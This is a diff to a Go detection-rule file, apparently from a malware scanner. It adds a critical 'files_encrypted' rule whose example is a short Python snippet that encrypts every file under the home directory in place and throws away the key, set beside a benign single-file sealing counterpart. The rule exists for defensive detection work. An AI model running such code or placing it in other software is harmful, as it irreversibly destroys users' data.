@@ -31,5 +31,15 @@ func destruction() []Rule {
 				One("the work of an installer", "install.sh", "tmp=$(mktemp -d)\ntar xzf app.tgz -C $tmp\nrm -rf $tmp /tmp/app-*\n"),
 			},
 		},
+		{
+			ID: "files_encrypted", Severity: Critical,
+			When: []Condition{{Triggers: []string{b.Install, b.Build, b.Import, b.Command}, Sources: []string{b.Files}, Name: Same, Via: []string{b.Cipher}, Sinks: []string{b.File}, Target: Wild, Script: No}},
+			Examples: []Example{
+				Module("each file of a folder, over itself", "import os\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\nfor d, _, names in os.walk(os.path.expanduser('~')):\n    for n in names:\n        p = os.path.join(d, n)\n        data = open(p, 'rb').read()\n        open(p, 'wb').write(f.encrypt(data))\n"),
+			},
+			Neighbours: []Example{
+				Module("one file, into another", "from cryptography.fernet import Fernet\ndef seal(key, path):\n    data = open(path, 'rb').read()\n    open(path + '.sealed', 'wb').write(Fernet(key).encrypt(data))\n"),
+			},
+		},
 	}
 }
